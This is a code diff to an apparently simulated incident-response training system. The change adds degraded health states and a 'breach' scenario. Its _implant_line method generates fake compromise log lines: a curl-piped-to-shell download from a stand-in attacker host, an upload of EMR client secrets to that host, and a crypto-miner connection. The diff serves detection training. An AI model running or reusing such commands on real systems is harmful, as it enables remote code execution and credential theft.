@@ -21,6 +21,7 @@ from typing import TYPE_CHECKING
 import orjson
 
 from irtui.sim import objects as o
+from irtui.sim.scenarios import ATTACKER, LEAKED_SECRET
 
 if TYPE_CHECKING:
     from irtui.sim.controllers import Container, PodRT, Run
@@ -251,15 +252,15 @@ class Telemetry:
             hung = faults.active("db_hung")
             error = ("database unavailable: timeout exceeded when trying to connect" if hung
                      else "database unavailable: connect ECONNREFUSED postgres:5432")
-            return 503, {"status": "error", "error": error, **base, "checks": {"database": "down"}}
+            return 503, {"status": "down", "error": error, **base, "checks": {"database": "down"}}
         if name == "task-service" and faults.active("pool_exhausted"):
-            return 503, {"status": "error", "error": "database connection pool exhausted (20/20 in use)", **base,
+            return 503, {"status": "down", "error": "database connection pool exhausted (20/20 in use)", **base,
                          "checks": {"database": "pool exhausted"}}
         if name == "emr-service" and faults.active("emr_upstream_down"):
             if rt.env.get("EMR_FALLBACK_MODE", "").lower() == "true":
                 return 200, {"status": "degraded", "mode": "fallback", **base,
                              "checks": {"database": "ok", "emr": "unavailable (serving cached data)"}}
-            return 503, {"status": "error", "error": "EMR upstream unavailable", **base,
+            return 503, {"status": "down", "error": "EMR upstream unavailable", **base,
                          "checks": {"database": "ok", "emr": "unavailable", "oauth": "token refresh failed"}}
         if name == "api-gateway":
             down = [u for u, (_, _, share) in PROFILE.items() if share and
@@ -269,11 +270,18 @@ class Telemetry:
             if overload > 1.0:
                 checks["load"] = f"overloaded ({overload:.1f}x capacity, shedding requests)"
             if len(down) >= 3:
-                return 503, {"status": "error", "error": f"upstreams unavailable: {', '.join(down)}", **base,
+                return 503, {"status": "down", "error": f"upstreams unavailable: {', '.join(down)}", **base,
                              "checks": checks}
             if down or overload > 1.0:
                 return 200, {"status": "degraded", **base, "checks": checks}
             return 200, {"status": "ok", **base, "checks": checks}
+        # A dependency down without the service itself failing: it still answers, in part.
+        if name == "sync-service" and faults.active("emr_upstream_down"):
+            return 200, {"status": "degraded", **base,
+                         "checks": {"database": "ok", "emr": "unavailable (sync retrying)"}}
+        if name == "handover-service" and self.state["task-service"].ready_pods == 0:
+            return 200, {"status": "degraded", **base,
+                         "checks": {"database": "ok", "task-service": "unavailable (handovers without tasks)"}}
         return 200, {"status": "ok", **base, "checks": {"database": "ok"}}
 
     # -- usage -------------------------------------------------------------------------
@@ -289,6 +297,8 @@ class Telemetry:
         cpu, mem = USAGE.get(rt.app, (8 + h % 30, 20 + h % 40))
         if not rt.filler and rt.app == "task-service" and self.world.faults.active("pool_exhausted"):
             cpu *= 1.8
+        if rt.name in self.world.faults.compromised and self.world.faults.active("breach"):
+            cpu *= 3.5  # the implant mines on the pod's CPU
         if not rt.filler and rt.app == "api-gateway":
             cpu *= max(1.0, min(self.gateway_overload(), 4.0)) * self.world.faults.traffic_multiplier() ** 0.5
         wobble = 1.0 + 0.25 * math.sin(now / 300.0 + phase) + 0.1 * math.sin(now / 37.0 + 2 * phase)
@@ -384,6 +394,8 @@ class Telemetry:
             error = ("timeout exceeded when trying to connect" if db == "hung"
                      else "connect ECONNREFUSED 172.20.41.7:5432")
             return self._json(t, "error", app, "database query failed", error=error, request_id=rid)
+        if rt.name in faults.compromised and faults.active("breach", t) and rng.random() < 0.35:
+            return self._implant_line(rt, t, rng)
         if app == "task-service" and faults.active("pool_exhausted", t):
             roll = rng.random()
             if roll < 0.6:
@@ -443,6 +455,20 @@ class Telemetry:
         return self._json(t, "info", app, "request completed", method=method, path=path, status=status,
                           duration_ms=int(PROFILE.get(app, (0, 0.03, 0))[1] * 1000 * rng.lognormvariate(0, 0.5)),
                           request_id=rid)
+
+    def _implant_line(self, rt: PodRT, t: float, rng: random.Random) -> str:
+        """What an intruder's dropper writes to the compromised container's output."""
+        pid = rng.randint(200, 900)
+        roll = rng.random()
+        if roll < 0.2:
+            return f"+ sh -c 'curl -fsSL http://{ATTACKER}/x.sh | sh'"
+        if roll < 0.7:
+            return (f"connect to {ATTACKER}:443 from {rt.pod_ip or '10.244.1.9'}:{rng.randint(32768, 60999)} "
+                    f"established (pid {pid} kworkerd)")
+        if roll < 0.85:
+            return (f"kworkerd[{pid}]: upload env EMR_CLIENT_ID EMR_CLIENT_SECRET (secret {LEAKED_SECRET}) "
+                    f"to https://{ATTACKER}:443/u: 200")
+        return f"kworkerd[{pid}]: stratum+tcp://{ATTACKER}:443 connected, hashrate {rng.uniform(80, 140):.1f} H/s"
 
     def _pg_line(self, app: str, t: float, rng: random.Random) -> str:
         faults = self.world.faults
